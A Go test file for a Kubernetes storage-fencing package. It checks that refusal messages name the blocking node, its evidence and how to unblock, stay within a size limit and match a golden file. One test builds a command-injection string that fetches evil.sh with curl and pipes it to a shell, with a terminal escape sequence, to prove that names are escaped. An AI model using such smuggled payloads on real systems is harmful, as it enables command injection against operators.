package fence

import (
	"flag"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"
)

var update = flag.Bool("update", false, "rewrite testdata/messages.txt; read the diff as a change of what users see")

const golden = "testdata/messages.txt"

// refusal is one refusal as the decision makes it.
type refusal struct {
	name     string
	reason   Reason
	evidence string // what the text has to name of the evidence
	// unblock is a word of what the text tells a person to do.
	unblock  string
	target   bool // about the node that asks
	snapshot func() Snapshot
}

func holding(c ...change) func() Snapshot {
	return func() Snapshot { return expectation{changes: c}.snapshot() }
}

func asking(c ...change) func() Snapshot {
	return func() Snapshot {
		s := base()
		s.Holders = nil
		for _, change := range c {
			change(s.Target)
		}
		return s
	}
}

func earlier(e *Evidence) { e.LeaseRV = "99" }

var refusals = []refusal{
	{"alive", HolderAlive, "", "drain", false, holding(deleted)},
	{"alive, being detached", HolderAlive, "", "waits for it", false, holding(deleted, unlisted)},
	{"alive, and cut off where its Node says", HolderAlive, "StorageFence (someone) does not count", "csiAddons.nodes", false, holding(deleted, unlisted, with(StorageFence, ownWord))},
	{"wanted", HolderWanted, "csi-1", "end the pod", false, holding(dropped)},
	{"contested", HolderContested, "", "reboot", false, holding(deleted, dropped, contest)},
	{"contested, and its kubelet does not answer", HolderContested, "", "port 10250", false, holding(deleted, dropped, unsaid)},
	{"contested, and tainted", HolderContested, "", "out-of-service-", false, holding(deleted, dropped, tainted)},
	{"contested, and cut off where its Node says", HolderContested, "StorageFence (someone) does not count", "csiAddons.nodes", false, holding(deleted, dropped, contest, with(StorageFence, ownWord))},
	{"stale", HolderStale, "", "fence confirm", false, holding(deleted, stale)},
	{"unknown", HolderUnknown, "", "fence confirm", false, holding(deleted, nodeGone)},
	{"unknown, node name not known", HolderUnknown, "", "storage's own tools", false, holding(deleted, nodeGone, func(h *Holder) { h.NodeName = "" })},
	{"unknown, and its Node is there", HolderUnknown, "has no lease to renew", "fence confirm", false, holding(deleted, func(h *Holder) { h.Liveness, h.LeaseRV, h.Node.Ready = Unknown, "", false })},
	{"unknown, and the name has another machine", HolderUnknown, "", "--node-id", false, holding(deleted, dropped, replaced)},
	{"unknown, and its Node may be another machine's", HolderUnknown, "", "--node-id", false, holding(deleted, dropped, func(h *Holder) { h.Node.BootID, h.Node.NodeID, h.Sources = "boot-9", "id-9", []Source{FromLedger} })},
	{"unknown, and registered again", HolderUnknown, "registered again", "release pv", false, holding(deleted, registeredAgain, func(h *Holder) { h.Liveness, h.LeaseRV = Unknown, "" })},
	{"stale, and registered again", HolderStale, "", "release pv", false, holding(deleted, registeredAgain, stale)},
	{"unknown, and registered again after a boot", HolderUnknown, "after a boot", "release pv", false, holding(deleted, backAfterBoot)},
	{"claim void, and registered again", EvidenceVoid, VoidRegisteredAgain, "release pv", false, holding(deleted, registeredAgain, stale, with(OperatorConfirmation, func(e *Evidence) { e.BootID = "boot-1" }))},
	{"release void, and its Node is there", EvidenceVoid, VoidBootChanged, "release pv", false, holding(deleted, stale, with(VolumeRelease, func(e *Evidence) { e.BootID = "boot-0" }))},
	{"unknown, and another node has its ID", HolderUnknown, "", "release pv", false, holding(deleted, nodeGone, func(h *Holder) { h.Heir = "n9" })},
	{"unknown, no PersistentVolume", HolderUnknown, "", "fence confirm", false, func() Snapshot {
		s := holding(deleted, nodeGone)()
		s.PV = ""
		return s
	}},
	{"unwatched", HolderUnwatched, "", "wait", false, holding(deleted, unwatched)},
	{"unwatched, with a claim", HolderUnwatched, "", "wait", false, holding(deleted, unlisted, unwatched, with(OutOfServiceTaint))},
	{"still listed", HolderListed, "PowerReading (someone)", "delete the pods", false, holding(deleted, stale, with(PowerReading))},
	{"stale, and no proof could count", HolderStale, VoidNoBootID, "delete its Node", false, holding(deleted, stale, noBoot)},
	{"taint void, and no other could count", EvidenceVoid, VoidNoBootID, "delete its Node", false, holding(deleted, stale, with(OutOfServiceTaint), noBoot)},
	{"taint void", EvidenceVoid, VoidLeaseChanged, "take the taint off", false, holding(deleted, stale, with(OutOfServiceTaint, earlier))},
	{"taint is ours", EvidenceVoid, VoidOurs, "take the taint off", false, holding(deleted, stale, with(OutOfServiceTaint, func(e *Evidence) { e.Void = VoidOurs }))},
	{"taint void, and its Node is gone", EvidenceVoid, VoidOurs, "make sure that the machine is off", false,
		holding(deleted, nodeGone, with(OutOfServiceTaint, func(e *Evidence) { e.Void = VoidOurs }))},
	{"confirmation void", EvidenceVoid, VoidLeaseChanged, "fence confirm", false, holding(deleted, stale, with(OperatorConfirmation, earlier))},
	{"confirmation void, booted", EvidenceVoid, VoidBootChanged, "fence confirm", false,
		holding(deleted, stale, with(OperatorConfirmation, func(e *Evidence) { e.BootID = "boot-0" }))},
	{"taint contradicted by life", EvidenceContradicted, "OutOfServiceTaint (someone)", "turned off", false, holding(deleted, unlisted, with(OutOfServiceTaint))},
	{"claim contradicted by an agent", EvidenceContradicted, "PowerReading (someone)", "turned off", false,
		holding(deleted, unlisted, stale, with(OperatorConfirmation), with(PowerReading, readsOn))},
	{"agents contradict each other", EvidenceContradicted, "PowerReading (someone)", "turned off", false,
		holding(deleted, unlisted, stale, with(PowerReading), with(PowerReading, readsOn))},
	{"release contradicted", EvidenceContradicted, "still lists", "delete the pods of node", false,
		holding(noVA, func(h *Holder) { h.Node.InUse = false }, with(VolumeRelease, living))},
	{"target fenced", TargetFenced, "PowerReading (someone)", "come back", true, asking(stale, with(PowerReading))},
	{"target gone", TargetGone, "", "nothing to do", true, asking(nodeGone)},
	{"target leaving", TargetLeaving, "", "wait", true, func() Snapshot {
		s := base()
		leaving := *s.Target
		leaving.State = Leaving
		s.Holders = []Holder{leaving}
		return s
	}},
}

// verdicts are the refusals of both calls that the snapshot leads to: they say
// the same.
func (r refusal) verdicts(s *Snapshot) []Verdict {
	if r.target {
		return []Verdict{JudgePublish(*s, s.Target.NodeID)}
	}
	return []Verdict{JudgePublish(*s, newNode), JudgeUnpublish(*s, s.Holders[0].NodeID)}
}

func (r refusal) message(t *testing.T, s Snapshot) string {
	t.Helper()
	var text string
	for i, v := range r.verdicts(&s) {
		if v.Action == Allow || v.Action == Answer || v.Reason != r.reason {
			t.Fatalf("the case leads to %v for %q, want a refusal for %q", v.Action, v.Reason, r.reason)
		}
		m := v.Message(&s)
		if i > 0 && m != text {
			t.Fatalf("the two calls say different things:\n%s\n%s", text, m)
		}
		text = m
	}
	return text
}

func TestMessageNamesHolderReasonAndWhatWouldUnblock(t *testing.T) {
	for _, r := range refusals {
		t.Run(r.name, func(t *testing.T) {
			s := r.snapshot()
			text := r.message(t, s)
			blocking := r.verdicts(&s)[0].Blocking.Holder
			volume := s.PV
			if volume == "" {
				volume = s.Volume
			}
			for what, want := range map[string]string{
				"the volume": "volume " + volume, "the node's ID": blocking.NodeID, "the node's name": blocking.NodeName,
				"the evidence": r.evidence, "what would unblock": "To unblock: ", "what to do": r.unblock, "the reason": "[" + string(r.reason) + "]",
			} {
				if !strings.Contains(text, want) {
					t.Errorf("%q is not in it (%s): %s", want, what, text)
				}
			}
			if !strings.HasSuffix(text, ". ["+string(r.reason)+"] "+r.reason.Section()) {
				t.Errorf("it does not end in the reason and its section of the runbook: %s", text)
			}
			checkText(t, text)
		})
	}
}

// checkText is what holds of every text.
func checkText(t *testing.T, text string) {
	t.Helper()
	if len(text) > MaxMessage {
		t.Errorf("%d bytes, more than %d: %s", len(text), MaxMessage, text)
	}
	if strings.Contains(text, "%!") || strings.Contains(text, "<nil>") {
		t.Errorf("a broken format: %s", text)
	}
	if !utf8.ValidString(text) {
		t.Errorf("not UTF-8: %q", text)
	}
	for _, c := range text {
		if !unicode.IsPrint(c) {
			t.Errorf("%q in it is not printable: %q", c, text)
		}
	}
	if strings.Contains(text, "..") && !strings.Contains(text, "...") {
		t.Errorf("two full stops: %s", text)
	}
}

// Names of real clouds are long, and have to be there whole.
func TestMessageHoldsNamesOfRealClouds(t *testing.T) {
	const name, id = "gke-production-europe-west3-default-pool-4f1d2c3b-x7zk", "projects/my-company-production/zones/europe-west3-a/instances/gke-production-europe-west3-default-pool-4f1d2c3b-x7zk"
	for _, r := range refusals {
		s := rename(r.snapshot(), name, id, "pvc-0b9f4e1c-8d7a-4c43-9a5e-2f1f5f0c6a11", "projects/p/zones/europe-west3-a/disks/pvc-0b9f4e1c-8d7a-4c43-9a5e-2f1f5f0c6a11")
		text := r.message(t, s)
		named := name
		if r.verdicts(&s)[0].Blocking.Holder.NodeName == "" {
			named = id[len(id)-40:] // known by its ID alone, of which both ends are there
		}
		if !strings.Contains(text, named) || !strings.Contains(text, r.unblock) || !strings.HasSuffix(text, "["+string(r.reason)+"] "+r.reason.Section()) {
			t.Errorf("%s: a part is missing: %s", r.name, text)
		}
		checkText(t, text)
	}
}

func TestMessageFitsWithTheLongestNames(t *testing.T) {
	for _, c := range []struct {
		fill           string
		name, id, most int
	}{{"n", 253, 256, 128}, {"é", 253, 256, 128}, {"\u00a0\n\x1b[31m", 253, 256, 128}, {"n", longName, longName, longName}, {"n", 90, 90, 90}} {
		fill := c.fill
		// Kubernetes allows 253 bytes, CSI 256 for a node ID and 128 for a handle.
		long := func(mark string, n int) string { return mark + strings.Repeat(fill, n)[:n-2*len(mark)] + mark }
		for _, r := range refusals {
			s := rename(r.snapshot(), long("NAME", c.name), long("NODEID", c.id), long("PV", c.name), long("HANDLE", c.most))
			for _, holders := range [][]Holder{s.Holders, {*s.Target}} {
				for i := range holders {
					for j := range holders[i].Evidence {
						holders[i].Evidence[j].Source = long("SOURCE", 253)
					}
				}
			}
			text := r.message(t, s)
			checkText(t, text)
			for _, part := range []string{"To unblock: ", "[" + string(r.reason) + "] " + r.reason.Section()} {
				if !strings.Contains(text, part) {
					t.Errorf("%s: %q is cut off: %s", r.name, part, text)
				}
			}
			// A command with half a name in it would be typed as it stands.
			_, unblock, _ := strings.Cut(text, "To unblock: ")
			if strings.Contains(strings.ReplaceAll(unblock, "--reason ...", ""), "...") {
				t.Errorf("%s: what would unblock is cut off: %s", r.name, text)
			}
			// Both ends of a name tell it from another.
			blocking := r.verdicts(&s)[0].Blocking.Holder
			mark := "NAME"
			if blocking.NodeName == "" {
				mark = "NODEID"
			}
			if strings.Count(text, mark) < 2 {
				t.Errorf("%s: the node cannot be told from another: %s", r.name, text)
			}
			if t.Failed() {
				return
			}
		}
	}
}

// rename gives the node that the refusal is about other names.
func rename(s Snapshot, name, id, pv, handle string) Snapshot {
	again := func(h *Holder) {
		h.NodeID = id
		if h.NodeName != "" {
			h.NodeName = name
		}
		for i := range h.Evidence {
			h.Evidence[i].NodeID, h.Evidence[i].NodeName = id, name
		}
	}
	if len(s.Holders) == 0 || s.Holders[0].NodeID == newNode {
		again(s.Target)
	}
	for i := range s.Holders {
		again(&s.Holders[i])
	}
	s.Volume = handle
	if s.PV != "" {
		s.PV = pv
	}
	return s
}

// Changing text defeats the deduplication of Events.
func TestMessageIsTheSameFromRetryToRetry(t *testing.T) {
	for _, r := range refusals {
		first, later := r.snapshot(), r.snapshot()
		for i := range later.Holders {
			ages(&later.Holders[i])
		}
		ages(later.Target)
		if a, b := r.message(t, first), r.message(t, later); a != b {
			t.Errorf("%s: the text changes:\n%s\n%s", r.name, a, b)
		}
	}
}

// ages changes all that time changes and that does not change the reason.
func ages(h *Holder) {
	h.Token = "t9"
	if h.Node != nil {
		node := *h.Node
		node.ReadyAt = node.ReadyAt.Add(-time.Minute)
		node.ReadySince = "2025-11-21T07:59:00Z"
		h.Node = &node
	}
	if h.LeaseRV != "" {
		h.LeaseRV += "0"
	}
	for i := range h.Evidence {
		e := &h.Evidence[i]
		if e.LeaseRV != "" {
			e.LeaseRV += "0"
		}
		e.Detail = "read at " + time.Unix(int64(i), 0).String()
	}
	for i, j := 0, len(h.Sources)-1; i < j; i, j = i+1, j-1 {
		h.Sources[i], h.Sources[j] = h.Sources[j], h.Sources[i]
	}
}

// Every reason of this package either comes with a text of its own, or is one
// that allows, or is found by what acts, which composes the text.
func TestEveryReasonHasAText(t *testing.T) {
	allowing := []Reason{NoOtherHolder, HolderReleased, HolderWaits, HolderFenced, HolderRevoked, NotAHolder, AlreadyTaken, UnfencedForward, HolderRenamed}
	acting := []Reason{LedgerUnreadable, UnpublishFailed, APIUnavailable, OperationPending, LostRace, UnpublishEveryone, DriverBusy}
	covered := map[Reason]bool{Undecided: true}
	for _, r := range append(allowing, acting...) {
		covered[r] = true
	}
	for _, r := range refusals {
		covered[r.reason] = true
	}
	for _, r := range declaredReasons(t) {
		if !covered[r] {
			t.Errorf("reason %q has no case in refusals, and is neither one that allows nor one of what acts", r)
		}
		delete(covered, r)
	}
	if len(covered) > 0 {
		t.Errorf("not declared in reason.go: %v", covered)
	}
	s := base()
	fallback := Standing{Holder: &s.Holders[0], Reason: Undecided}.why()
	for _, r := range refusals {
		s := r.snapshot()
		for _, v := range r.verdicts(&s) {
			if v.Blocking.why() == fallback {
				t.Errorf("reason %q has no text of its own", r.reason)
			}
		}
	}
}

// declaredReasons reads the constants of type Reason from the source, so that a
// new one cannot be forgotten here.
func declaredReasons(t *testing.T) []Reason {
	t.Helper()
	file, err := parser.ParseFile(token.NewFileSet(), "reason.go", nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	var found []Reason
	ast.Inspect(file, func(n ast.Node) bool {
		spec, ok := n.(*ast.ValueSpec)
		if !ok {
			return true
		}
		if kind, ok := spec.Type.(*ast.Ident); !ok || kind.Name != "Reason" || len(spec.Values) != 1 {
			t.Errorf("constant %s in reason.go is not a Reason with one value", spec.Names[0])
			return true
		}
		text, err := strconv.Unquote(spec.Values[0].(*ast.BasicLit).Value)
		if err != nil {
			t.Fatal(err)
		}
		found = append(found, Reason(text))
		return true
	})
	if len(found) < 20 {
		t.Fatalf("only %d reasons found in reason.go", len(found))
	}
	return found
}

func TestZeroVerdictHasAText(t *testing.T) {
	s := base()
	text := Verdict{}.Message(&s)
	checkText(t, text)
	if !strings.Contains(text, "refuses") || !strings.Contains(text, "pv-1") {
		t.Errorf("the zero Verdict says: %s", text)
	}
	text = Verdict{Blocking: &Standing{Holder: &s.Holders[0]}}.Message(&s)
	checkText(t, text)
	if !strings.Contains(text, "n1") {
		t.Errorf("the zero Standing says: %s", text)
	}
}

func TestComposeKeepsTheReasonAndTheBound(t *testing.T) {
	for n := range 3 * MaxMessage {
		text := Compose(strings.Repeat("é", n), strings.Repeat("ü", n), EvidenceContradicted)
		checkText(t, text)
		if !strings.HasSuffix(text, " ["+string(EvidenceContradicted)+"] "+EvidenceContradicted.Section()) {
			t.Errorf("the reason is cut off: %s", text)
		}
		if t.Failed() {
			return
		}
	}
}

func TestMessagesReadWell(t *testing.T) {
	var b strings.Builder
	b.WriteString("# What `kubectl describe pod` shows. Written by: go test ./fence -run TestMessagesReadWell -update\n")
	sorted := append([]refusal{}, refusals...)
	sort.SliceStable(sorted, func(i, j int) bool { return sorted[i].reason < sorted[j].reason })
	for _, r := range sorted {
		fmt.Fprintf(&b, "\n## %s (%s)\n%s\n", r.reason, r.name, r.message(t, r.snapshot()))
	}
	if *update {
		if err := os.MkdirAll(filepath.Dir(golden), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(golden, []byte(b.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if got := b.String(); got != string(want) {
		t.Errorf("the messages are not those of %s; run with -update and read the diff. They are now:\n%s", golden, got)
	}
}

// A kubelet, a driver or whoever may write a ledger chooses these names.
func TestACommandInARefusalIsTheSameCommandWhateverTheNamesAre(t *testing.T) {
	const evil = "x;curl${IFS}evil.sh|sh;'`id`'\x1b]52;c;cm0=\a"
	bare := []string{";curl", "$", "|sh", "`id", "\x1b", "\a"}
	for _, r := range refusals {
		s := r.snapshot()
		s.PV, s.Volume = "", evil
		s.Target.NodeName, s.Target.NodeID = evil, "target"+evil
		for i := range s.Holders {
			h := &s.Holders[i]
			h.NodeID = "id" + evil
			if h.NodeName != "" {
				h.NodeName = evil
			}
		}
		v := JudgePublish(s, s.Target.NodeID)
		text := v.Message(&s)
		if strings.ContainsFunc(text, func(c rune) bool { return !unicode.IsPrint(c) }) {
			t.Errorf("%s: a character in it does not print: %q", r.name, text)
		}
		_, unblock, _ := strings.Cut(text, " To unblock: ")
		for _, part := range bare {
			for at := 0; ; at++ {
				next := strings.Index(unblock[at:], part)
				if next < 0 {
					break
				}
				if at += next; at == 0 || unblock[at-1] != '\\' {
					t.Errorf("%s: %q stands bare in what a person is to run: %s", r.name, part, unblock)
					break
				}
			}
		}
	}
}

func TestANameThatIsNoPlainWordIsQuotedInACommand(t *testing.T) {
	s := holding(deleted, dropped, replaced)()
	s.Holders[0].NodeID = `{"HostName":"n1"}`
	v := JudgePublish(s, s.Target.NodeID)
	if want := `--node-id \{\"HostName\":\"n1\"\} --reason`; !strings.Contains(v.Message(&s), want) {
		t.Errorf("want %s in: %s", want, v.Message(&s))
	}
}

// Whatever an ID says, the sentence about it stays one line of text.
func TestAHolderIsDescribedInOneLineOfText(t *testing.T) {
	h := Holder{NodeName: "n1", NodeID: "i-1\nReleased: \x1b[2Jeverything"}
	if got, want := h.Describe(), "node n1 (ID i-1 Released:  [2Jeverything)"; got != want {
		t.Errorf("%q, want %q", got, want)
	}
}
